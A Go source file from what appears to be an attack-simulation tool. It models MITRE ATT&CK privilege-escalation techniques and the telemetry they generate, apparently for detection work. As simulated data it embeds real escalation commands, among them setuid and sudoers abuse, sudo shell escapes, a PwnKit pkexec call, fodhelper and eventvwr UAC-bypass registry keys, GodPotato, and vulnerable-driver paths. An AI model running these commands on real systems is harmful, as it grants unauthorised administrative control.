package technique

import (
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

var privilegeEscalation = []*Technique{
	{
		ID: "T1548.002", Name: "Abuse Elevation Control Mechanism: Bypass User Account Control", Tactic: "privilege-escalation", Platforms: []string{"windows"},
		Needs: "a foothold on Windows", Effect: "the foothold is elevated",
		Telemetry: []string{"windows/sysmon 1 13"}, Tools: []string{"fodhelper", "eventvwr", "token of a service"}, Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.85,
		ready: needWindows, run: elevate,
	},
	{
		ID: "T1548.001", Name: "Abuse Elevation Control Mechanism: Setuid and Setgid", Tactic: "privilege-escalation", Effect: "the session is root's",
		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.8,
		script: &script{at: onLinux, then: becomeRoot, variants: []variant{
			by("chmod u+s", sh(world.Bash, "bash -c chown root /tmp/.sh && chmod u+s /tmp/.sh"), sh(world.Chmod, "chmod u+s /tmp/.sh")),
			by("found binary", sh(world.Find, "find / -perm -4000 -type f"), sh(world.Find, "find . -exec /bin/sh -p ;")),
		}},
	},
	{
		ID: "T1548.003", Name: "Abuse Elevation Control Mechanism: Sudo and Sudo Caching", Tactic: "privilege-escalation", Effect: "the session is root's",
		Takes: sim.LogNormal(2*time.Minute, 0.8), Success: 0.7,
		script: &script{at: onLinux, then: becomeRoot, variants: []variant{
			by("user -1", sh(world.Sudo, "sudo -u#-1 /bin/bash")),
			by("sudoers file", sh(world.Bash, "bash -c echo www-data ALL=NOPASSWD:ALL > /etc/sudoers.d/90-cloud"), linuxFile("/etc/sudoers.d/90-cloud")),
			by("allowed editor", sh(world.Sudo, "sudo -l"), sh(world.Sudo, "sudo vim -c :!/bin/bash")),
		}},
	},
	{
		ID: "T1068", Name: "Exploitation for Privilege Escalation", Tactic: "privilege-escalation", Effect: "the foothold is elevated",
		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.75,
		script: &script{at: anywhere, then: rise, variants: []variant{
			by("print spooler", either(spooler(`C:\Windows\System32\spool\drivers\x64\3\New\evil.dll`), sh(world.Pkexec, "pkexec GCONV_PATH=./value SHELL=/bin/bash CHARSET=pwnkit"))),
			by("vulnerable driver", either(driver(`C:\Windows\Temp\RTCore64.sys`), sh(world.UnixProgram("/tmp/.p"), "/tmp/.p"))),
		}},
	},
	{
		ID: "T1055", Name: "Process Injection", Tactic: "privilege-escalation", Effect: "the attacker's code runs inside another program",
		Takes: quick, Success: 0.93,
		script: &script{at: onWindows, variants: []variant{
			by("remote thread", cmd(world.Rundll32, `rundll32.exe`), open(world.Explorer, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|UNKNOWN(0000020C5D0B1234)`), inject(world.Explorer, "LoadLibraryA")),
			by("into notepad", cmd(world.Notepad, `C:\Windows\System32\notepad.exe`), inject(world.Notepad, "-"), connect("", 443, "ssl", 900, 3e3)),
		}},
	},
	{
		ID: "T1055.012", Name: "Process Injection: Process Hollowing", Tactic: "privilege-escalation", Effect: "the attacker's code runs under a trusted program's name",
		Takes: quick, Success: 0.93,
		script: &script{at: onWindows, variants: []variant{
			by("bare rundll32", under(world.Winword, world.Rundll32, `rundll32.exe`), tampered(world.Rundll32), connect("", 443, "ssl", 900, 3e3)),
			by("svchost", cmd(world.Svchost, `C:\Windows\System32\svchost.exe`), tampered(world.Svchost)),
		}},
	},
	{
		ID: "T1134.001", Name: "Access Token Manipulation: Token Impersonation/Theft", Tactic: "privilege-escalation", Effect: "the foothold works as SYSTEM",
		Takes: quick, Success: 0.85,
		script: &script{at: onWindows, then: rise, variants: []variant{
			by("getsystem", installService("xbqlpw", `cmd.exe /c echo xbqlpw > \\.\pipe\xbqlpw`), asSystem(world.Services, world.Cmd, `cmd.exe /c echo xbqlpw > \\.\pipe\xbqlpw`)),
			by("potato", cmd(world.Dropped(`C:\Users\Public\GodPotato.exe`, &plain), `GodPotato.exe -cmd "cmd /c whoami"`), asSystem(world.Svchost, world.Whoami, `whoami`)),
			by("duplicated token", cmd(world.Whoami, "whoami /priv")),
		}},
	},
}

// rise elevates the foothold.
func rise(a *Attempt, f *Foothold) string {
	f.Elevated = true
	if f.Implant != nil {
		f.Implant.Elevated = true
	}
	return "elevated on " + f.Host.Name
}

func becomeRoot(a *Attempt, f *Foothold) string { return rise(a, f) }

// spooler is a driver that the print spooler loads for the attacker (CVE-2021-34527).
func spooler(library string) move {
	return move{"windows/sysmon 1 7 11", func(a *Attempt, f *Foothold) world.Refusal {
		p := f.Host.System(world.Spoolsv, world.Spoolsv.Path)
		a.createFile(a.Now, p, library)
		a.World.LoadImage(a.Now, a.Actor, p, &world.Binary{Path: library, OriginalName: "-", Company: "-", Product: "-", Description: "-", Version: "-"})
		a.Process = a.World.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: f.Host, Binary: world.Cmd, CommandLine: "cmd.exe", Parent: p, Integrity: "System"})
		return world.Refusal{}
	}}
}

// driver loads a signed driver with a hole (Sysmon 6).
func driver(path string) move {
	return move{"windows/sysmon 6 11", func(a *Attempt, f *Foothold) world.Refusal {
		a.createFile(a.Now, a.last(f), path)
		a.World.LogBy(a.Now, a.Actor, f.Host, nil, "Sysmon 6", "ImageLoaded", path, "Signed", "true", "Signature", "Micro-Star International CO., LTD.", "SignatureStatus", "Valid", "Hashes", world.Signed(path, "Micro-Star International").Hashes)
		return world.Refusal{}
	}}
}

// tampered is a program whose image was replaced in memory (Sysmon 25).
func tampered(b *world.Binary) move {
	return move{"windows/sysmon 25", func(a *Attempt, f *Foothold) world.Refusal {
		a.World.Log(a.Now, a.Actor, f.Host.Program(b, b.Path, f.Account), "Sysmon 25")
		return world.Refusal{}
	}}
}

func elevate(a *Attempt) Progress {
	f := a.Where(true, false)
	if f == nil {
		return failure("%s", errNoWindows)
	}
	if f.Elevated {
		return success("%s is elevated already", f.Host.Name)
	}
	switch a.Tool {
	case "fodhelper":
		p := a.start(f, world.Reg, `reg add HKCU\Software\Classes\ms-settings\shell\open\command /d "C:\Users\Public\agent.exe" /f`)
		a.World.SetRegistryValue(a.Now+time.Second, a.Actor, p, `HKU\`+sid(f)+`_Classes\ms-settings\shell\open\command\(Default)`, `C:\Users\Public\agent.exe`)
		fod := &world.Binary{Path: `C:\Windows\System32\fodhelper.exe`, OriginalName: "FodHelper.EXE", Company: "Microsoft Corporation", Product: "Microsoft® Windows® Operating System", Description: "Features On Demand Helper", Version: "10.0.17763.1", Signed: true}
		high := *f
		high.Elevated = true
		parent := a.start(&high, fod, `"C:\Windows\System32\fodhelper.exe"`)
		a.World.StartProcess(a.Now+2*time.Second, a.Actor, world.Start{Host: f.Host, Account: f.Account, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c C:\Users\Public\agent.exe`, Parent: parent, Integrity: "High"})
	case "eventvwr":
		p := a.start(f, world.Reg, `reg add HKCU\Software\Classes\mscfile\shell\open\command /d "C:\Users\Public\agent.exe" /f`)
		a.World.SetRegistryValue(a.Now+time.Second, a.Actor, p, `HKU\`+sid(f)+`_Classes\mscfile\shell\open\command\(Default)`, `C:\Users\Public\agent.exe`)
	default:
		a.start(f, world.Whoami, "whoami /priv")
	}
	if a.failed {
		return failure("no elevation on %s", f.Host.Name)
	}
	f.Elevated = true
	if f.Implant != nil {
		f.Implant.Elevated = true
	}
	return success("elevated on %s", f.Host.Name)
}

func sid(f *Foothold) string {
	if f.Account == nil {
		return "S-1-5-18"
	}
	return f.Account.SID
}
